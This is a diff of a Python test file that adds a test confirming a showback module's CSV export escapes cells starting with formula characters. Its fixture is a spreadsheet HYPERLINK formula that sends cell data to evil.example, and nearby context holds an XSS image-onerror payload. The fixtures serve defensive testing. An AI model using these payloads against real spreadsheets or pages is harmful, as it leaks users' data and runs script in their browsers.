@@ -284,6 +284,17 @@ def test_usage_queries_name_their_bad_parameter():
     )
 
 
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\0"])
+def test_no_csv_cell_starts_a_formula_whatever_the_name_starts_with(lead):
+    """ASVS 5.0 (1.2.10) names a leading NUL with =, +, -, @, tab and CR: a project without
+    the profile layer's check is any text the user sent (``ownership._text`` keeps NUL), and
+    the NUL went out first in its cell."""
+    name = lead + 'HYPERLINK("https://evil.example/?"&A1)'
+    text = showback.to_csv([{"period": "all", "project": name}], ["project"])
+    rows = list(csv.reader(io.StringIO(text, newline="")))  # as a spreadsheet splits them
+    assert rows[1][1] == "'" + name
+
+
 def test_charts_escape_names_and_handle_no_data():
     evil = "<img src=x onerror=alert(1)>"
     svg = showback.stacked_bars({evil: {"2025-03-03": 2.0}}, ["2025-03-03"], title="t", unit="h")
